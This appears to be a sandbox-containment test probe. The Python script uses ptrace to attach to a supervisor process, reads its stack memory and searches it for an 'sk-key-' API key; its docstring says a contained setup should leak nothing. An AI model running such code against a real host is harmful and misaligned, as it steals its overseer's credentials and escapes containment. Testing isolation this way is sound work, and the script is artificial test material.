"""Attach to the framework's process as a debugger would and peek at its stack.

Contained: the key is not in the output.
Needs: ptrace
"""

import ctypes
import re
import time

PEEK, SEIZE, DETACH, INTERRUPT = 2, 0x4206, 17, 0x4207
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int("@SUPERVISOR_PID@")
print("attached:", libc.ptrace(SEIZE, pid, None, None), libc.ptrace(INTERRUPT, pid, None, None))
time.sleep(0.1)
stack = next(line for line in open(f"/proc/{pid}/maps") if "[stack]" in line)
first, last = (int(part, 16) for part in stack.split()[0].split("-"))
words = [libc.ptrace(PEEK, pid, at, None) & (2**64 - 1) for at in range(max(first, last - 16384), last, 8)]
print(re.findall(rb"sk-key-[0-9a-f]{24}", b"".join(word.to_bytes(8, "little") for word in words)))
libc.ptrace(DETACH, pid, None, None)
